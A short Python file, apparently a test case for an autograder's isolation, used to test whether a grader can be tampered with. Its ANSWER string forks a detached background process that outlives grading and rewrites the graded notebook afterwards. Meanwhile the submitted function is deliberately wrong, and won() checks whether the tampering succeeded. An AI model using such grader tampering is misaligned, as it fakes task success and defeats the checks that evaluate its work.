"""Leaves a process that waits for the graded notebook and rewrites it, for the feedback to show other outputs."""

ANSWER = """
import json, os, time
if os.fork() == 0:
    os.setsid()
    for _ in range(100):
        time.sleep(0.2)
        try:
            with open("Toy.ipynb") as file:
                nb = json.load(file)
            nb["metadata"]["rewritten"] = "after" + " grading"
            with open("Toy.ipynb", "w") as file:
                json.dump(nb, file)
        except (OSError, ValueError):
            pass
    os._exit(0)
def double(x):
    return x
"""


def won(course, me):
    paths = (course.root / "autograded" / me).rglob("*.ipynb")
    return any("after grading" in path.read_text(encoding="utf-8") for path in paths)
